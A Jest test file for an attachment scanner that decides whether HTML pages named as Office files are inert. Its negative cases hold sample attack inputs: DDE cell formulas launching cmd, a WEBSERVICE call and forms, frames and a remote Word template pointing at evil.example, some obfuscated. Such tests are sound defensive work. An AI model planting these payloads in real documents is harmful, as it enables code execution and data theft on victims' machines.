import { describe, expect, test } from '@jest/globals';
import { attachments } from '../../src/traits/attachments.ts';
import { part } from './parts.ts';

const isInert = async (name: string, html: Buffer | string): Promise<boolean> => {
  const [file] = await attachments({ parts: [part(name, html)] });
  return file?.isInertPage ?? false;
};
const page = (body: string): string => `<html><body>${body}</body></html>`;

describe('a page under a name of Office', () => {
  test.each([
    ['a table', 'a.xls', page('<table><tr><td>Paper<td>10</tr></table>')],
    ['a letter', 'a.doc', page('<p>Our offer</p><img src="https://x.example/logo.png"><a href="https://x.example">')],
    ['with settings', 'a.xls', page('<!--[if gte mso 9]><xml><x:ExcelWorkbook></x:ExcelWorkbook></xml><![endif]-->')],
    ['with numbers kept as text', 'a.xls', page('<td>="00123"</td><td>-5</td><td>+49 69 1234</td><td>- a list</td>')],
    ['in UTF-16', 'a.xls', Buffer.from('\ufeff<html><table><td>1</table>', 'utf16le')],
  ])('%s does nothing', async (_name, name, html) => {
    expect(await isInert(name, html)).toBe(true);
  });
  test.each([
    ['a script', 'a.xls', page('<script>x()</script>')],
    ['a script of data', 'a.xls', page('<script type="text/template">x</script>')],
    ['a handler', 'a.xls', page('<p onclick="x()">')],
    ['a form', 'a.doc', page('<form action="https://evil.example"><input name="user"></form>')],
    ['a field without a form', 'a.doc', page('<input formaction="https://evil.example">')],
    ['a frame', 'a.doc', page('<iframe src="https://evil.example"></iframe>')],
    ['frames of a workbook', 'a.xls', '<html><frameset><frame src="https://evil.example"></frameset></html>'],
    ['an object', 'a.doc', page('<object data="https://evil.example"></object>')],
    ['a page to go on to', 'a.doc', page('<meta http-equiv=" Refresh" content="0;url=https://evil.example">')],
    ['a base', 'a.doc', page('<base href="https://evil.example">')],
    ['a link that runs', 'a.doc', page('<a href="javascript:x()">')],
    ['macros beside it', 'a.doc', page('<link rel="&#69;dit-Time-Data" href="https://evil.example/editdata.mso">')],
    [
      'a template in a comment that Word reads',
      'a.doc',
      page('<!--[if gte mso 9]><xml><w:AttachedTemplate HRef="https://evil.example/t.dotm"/></xml><![endif]-->'),
    ],
    ['a cell that starts a program', 'a.xls', page("<table><td>=cmd|'/c calc'!A0</td></table>")],
    ['a cell with letters as numbers', 'a.xls', page("<table><td><b>&#61;</b>cmd|'/c calc'!A0</td></table>")],
    ['a cell after a sign', 'a.xls', page("<table><td>-2+cmd|'/c calc'!A0</td></table>")],
    ['a cell that fetches', 'a.xls', page('<table><td>=WEBSERVICE("https://evil.example")</td></table>')],
    ['a formula beside a value', 'a.xls', page('<table><td x:fmla="=cmd|x!A0">1</td></table>')],
    [
      'a handler behind many attributes',
      'a.xls',
      page(`<p ${Array.from({ length: 40 }, (_, i) => `onx${i}=1`).join(' ')} onclick="x()">`),
    ],
    ['more than is read', 'a.xls', page(' '.repeat(300_000))],
  ])('%s is told', async (_name, name, html) => {
    expect(await isInert(name, html)).toBe(false);
  });
  test('under a name of its own it is a page as any', async () => {
    expect(await isInert('a.html', page('x'))).toBe(false);
  });
});
